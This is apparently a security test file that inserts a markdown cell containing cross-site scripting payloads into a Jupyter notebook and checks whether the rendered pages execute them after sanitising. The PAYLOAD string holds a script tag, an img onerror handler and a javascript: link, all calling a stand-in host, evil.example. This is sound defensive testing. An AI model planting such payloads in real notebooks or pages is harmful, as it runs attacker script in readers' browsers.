# A text cell with a script and a link that is one, in the pages made of it.
# stopped by: Markdown is rendered and then cleaned by nh3; in the notebook as it ran, before
# control: own
# expect: graded 0

import json

from target import cells_of, notebook, obeyed, trusting

MARK = "evil.example"
PAYLOAD = 'A note.\n\n<script src=\'//evil.example/a.js\'></script>\n<img src=x onerror="fetch(\'//evil.example\')">\n[x](javascript:fetch(\'//evil.example\'))'
NOTE = {"cell_type": "markdown", "id": "note", "source": PAYLOAD, "metadata": {}}


def make(folder, name, honest):
    found = notebook(cells_of({}))
    found["cells"].insert(1, NOTE)
    (folder / f"{name}.ipynb").write_text(json.dumps(found))


def control(folder):
    return browsed(trusting(NOTE))


def browsed(page):
    return obeyed(page, MARK)
